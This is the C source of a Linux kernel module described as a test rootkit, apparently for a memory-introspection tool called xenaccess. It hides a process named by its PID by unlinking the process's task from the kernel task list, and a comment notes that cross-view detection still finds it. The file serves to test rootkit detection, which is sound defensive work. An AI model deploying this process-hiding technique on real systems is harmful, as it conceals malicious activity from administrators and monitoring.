/* Test rootkit (b): hides a process by unlinking its task from the task
 * list (DKOM, as in FU / many Linux rootkits). The task stays in the PID
 * IDR, its thread group and the scheduler, which is what a cross view sees. */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/rculist.h>

static int target_pid;
module_param(target_pid, int, 0444);

static int __init rk_hideproc_init(void)
{
    struct task_struct *task;

    rcu_read_lock();
    task = pid_task(find_vpid(target_pid), PIDTYPE_PID);
    if (!task) {
        rcu_read_unlock();
        pr_err("rk_hideproc: no pid %d\n", target_pid);
        return -ESRCH;
    }
    list_del_rcu(&task->tasks);
    INIT_LIST_HEAD(&task->tasks); /* a later exit unlinks an empty node */
    rcu_read_unlock();
    pr_info("rk_hideproc: unlinked pid %d from the task list\n", target_pid);
    return 0;
}
module_init(rk_hideproc_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: task list unlink");
